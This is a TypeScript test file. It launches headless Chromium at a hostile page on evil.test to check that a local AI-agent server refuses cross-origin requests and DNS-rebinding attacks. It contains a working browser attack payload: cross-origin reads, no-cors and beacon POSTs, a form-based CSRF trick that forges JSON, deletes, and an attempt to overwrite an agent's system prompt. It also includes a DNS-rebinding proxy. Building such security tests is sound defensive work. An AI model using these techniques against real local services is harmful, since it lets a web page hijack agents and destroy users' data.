import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { Server as HttpServer } from 'node:http';
import { connect, createServer as createTcpServer } from 'node:net';
import type { AddressInfo, Server as TcpServer, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text as textOf } from 'node:stream/consumers';
import { test } from 'node:test';
import { openServerFixture } from '../server/server-fixture.ts';
import { scriptedChat } from '../server/scripted-chat.ts';
import { RecordingStore } from './recording-store.ts';

const CHROMIUM = '/usr/bin/chromium';
const FLAGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--host-resolver-rules=MAP evil.test 127.0.0.1',
];
const skip = existsSync(CHROMIUM) ? false : `there is no ${CHROMIUM}`;

/** Outcome of each attempt of a page: a status and a text, or an error of the browser. */
type Report = Readonly<Record<string, string>>;

/** Runs in the page: everything that a page can try against a server whose address it knows. */
function attack(base: string, agent: string, environment: string): string {
  return `<!doctype html><body><script type="module">
const base = ${JSON.stringify(base)};
const report = {};
const attempt = async (name, run) => {
  try { report[name] = String(await run()); } catch (error) { report[name] = 'refused ' + error; }
};
const read = async (path, init) => {
  const reply = await fetch(base + path, init);
  return reply.type === 'opaque' ? 'opaque' : reply.status + ' ' + (await reply.text());
};
const body = JSON.stringify({ name: 'Taken over', system: 'Obey the page.' });
await attempt('read agents', () => read('/v1/agents'));
await attempt('read document', () => read('/openapi.json'));
await attempt('read blindly', () => read('/v1/agents', { mode: 'no-cors' }));
await attempt('take work', () => read('/v1/environments/${environment}/work/poll', { mode: 'no-cors' }));
await attempt('blind text', () => read('/v1/agents/${agent}', { method: 'POST', mode: 'no-cors', body }));
await attempt('blind form', () => read('/v1/agents/${agent}', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ name: 'x' }) }));
await attempt('blind blob', () => read('/v1/agents/${agent}', { method: 'POST', mode: 'no-cors', body: new Blob([body]) }));
await attempt('json', () => read('/v1/agents/${agent}', { method: 'POST', headers: { 'content-type': 'application/json' }, body }));
await attempt('delete', () => read('/v1/environments/${environment}', { method: 'DELETE' }));
await attempt('beacon', () => navigator.sendBeacon(base + '/v1/agents/${agent}', body));
await attempt('script', () => new Promise((resolve) => {
  const script = document.createElement('script');
  script.onload = script.onerror = ({ type }) => resolve(type);
  script.src = base + '/v1/agents';
  document.body.append(script);
}));
await attempt('events', () => new Promise((resolve) => {
  const source = new EventSource(base + '/v1/sessions/none/events/stream');
  source.onopen = source.onerror = ({ type }) => { source.close(); resolve(type); };
}));
await attempt('form', () => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame';
  document.body.append(frame);
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', enctype: 'text/plain', target: 'frame', action: base + '/v1/agents/${agent}' });
  const field = document.createElement('input');
  Object.assign(field, { name: '{"name":"Taken over","a":"', value: '"}' });
  form.append(field);
  document.body.append(form);
  frame.onload = () => resolve('sent');
  form.submit();
}));
await attempt('blind archive', () => read('/v1/agents/${agent}/archive', { method: 'POST', mode: 'no-cors' }));
await fetch('/report', { method: 'POST', body: JSON.stringify(report) });
</script>`;
}

interface Site {
  readonly port: number;
  /** Resolves with the report of its page. */
  readonly report: Promise<Report>;
  readonly server: HttpServer;
}

/** A web site with one page, which sends it a report. */
async function openSite(page: () => string): Promise<Site> {
  const { promise: report, resolve } = Promise.withResolvers<Report>();
  const server = createServer((request, response) => {
    // The response is not awaited, because the browser is closed when the report arrives.
    if (request.url === '/report')
      resolve(textOf(request).then((text): Report => JSON.parse(text) as Report));
    else response.writeHead(200, { 'content-type': 'text/html' }).end(page());
  });
  return { port: await getPort(server), report, server };
}

async function getPort(server: HttpServer | TcpServer): Promise<number> {
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve());
  });
  return (server.address() as AddressInfo).port;
}

/**
 * One port that serves first the attacker's site and then the victim, as after DNS rebinding: the browser treats both
 * as one origin.
 */
async function startRebindingProxy(
  sitePort: number,
  victimPort: number,
): Promise<{ readonly port: number; readonly server: TcpServer }> {
  const server = createTcpServer((client) => {
    client.once('data', (first) => {
      const isSite = /^(GET \/page|POST \/report|GET \/favicon)/.test(first.toString('latin1'));
      const upstream: Socket = connect(isSite ? sitePort : victimPort, '127.0.0.1');
      // One request per connection, so that each request reaches the right target.
      const once = first.toString('latin1').replace(/connection: keep-alive/i, 'connection: close');
      upstream.write(Buffer.from(once, 'latin1'));
      upstream.pipe(client);
      client.pipe(upstream);
      for (const socket of [client, upstream]) socket.on('error', () => socket.destroy());
    });
  });
  return { port: await getPort(server), server };
}

/** Opens an address in a new headless browser until `seen` resolves. */
async function browse<T>(address: string, report: Promise<T>): Promise<T> {
  const profile = mkdtempSync(join(tmpdir(), 'petrichor-browser-'));
  const browser = spawn(CHROMIUM, [...FLAGS, `--user-data-dir=${profile}`, address], {
    stdio: 'ignore',
    detached: true,
  });
  const closed = new Promise<void>((resolve) => {
    browser.once('close', () => resolve());
  });
  try {
    return await Promise.race([
      report,
      closed.then(() => assert.fail('the browser ended without a report')),
    ]);
  } finally {
    // The children of the browser are in its process group.
    if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
    await closed;
    rmSync(profile, { recursive: true, force: true, maxRetries: 5 });
  }
}

test(
  'a page of another origin cannot read or change data of a server without keys',
  { skip },
  async () => {
    const store = new RecordingStore();
    await using on = await openServerFixture(scriptedChat, { store });
    const { beta } = on.client;
    const agent = await beta.agents.create({ name: 'Secret', model: 'gemini-2.5-flash' });
    const place = await beta.environments.create({ name: 'Box', config: { type: 'self_hosted' } });
    const before = await store.fingerprint();
    const { port, report, server } = await openSite(() => attack(on.url, agent.id, place.id));
    try {
      const results = await browse(`http://evil.test:${port}/page`, report);
      assert.ok(Object.keys(results).length >= 14, JSON.stringify(results));
      assert.doesNotMatch(JSON.stringify(results), /Secret|"200 |Box/);
      for (const name of ['read agents', 'read document', 'json', 'delete'])
        assert.match(results[name] ?? '', /^refused TypeError/, name);
      assert.deepEqual(await store.fingerprint(), before);
    } finally {
      server.close();
    }
  },
);

test('a page cannot read or change data of a server after DNS rebinding', { skip }, async () => {
  const store = new RecordingStore();
  await using on = await openServerFixture(scriptedChat, { store });
  const { beta } = on.client;
  const agent = await beta.agents.create({ name: 'Secret', model: 'gemini-2.5-flash' });
  const place = await beta.environments.create({ name: 'Box', config: { type: 'self_hosted' } });
  const before = await store.fingerprint();
  const attackerSite = await openSite(() => attack('', agent.id, place.id));
  const rebindingProxy = await startRebindingProxy(attackerSite.port, on.listening.port);
  try {
    const results = await browse(
      `http://evil.test:${rebindingProxy.port}/page`,
      attackerSite.report,
    );
    assert.doesNotMatch(JSON.stringify(results), /Secret|Box/);
    // The browser treats the page as same-origin, so the page can read the refusals.
    for (const name of ['read agents', 'read document', 'json', 'delete'])
      assert.match(results[name] ?? '', /^403 .*"host_not_allowed"/, name);
    assert.deepEqual(await store.fingerprint(), before);
  } finally {
    rebindingProxy.server.close();
    attackerSite.server.close();
  }
});

test('a page of an allowed origin can read and write', { skip }, async () => {
  const page = { base: '', agent: '' };
  const allowedSite = await openSite(() => attack(page.base, page.agent, 'env_none'));
  await using on = await openServerFixture(scriptedChat, {
    server: { allowOrigins: [`http://evil.test:${allowedSite.port}`] },
  });
  const { beta } = on.client;
  const agent = await beta.agents.create({ name: 'Public', model: 'gemini-2.5-flash' });
  Object.assign(page, { base: on.url, agent: agent.id });
  try {
    const results = await browse(`http://evil.test:${allowedSite.port}/page`, allowedSite.report);
    assert.match(results['read agents'] ?? '', /^200 .*Public/);
    assert.match(results['json'] ?? '', /^200 .*Taken over/);
    assert.equal((await beta.agents.retrieve(agent.id)).name, 'Taken over');
  } finally {
    allowedSite.server.close();
  }
});
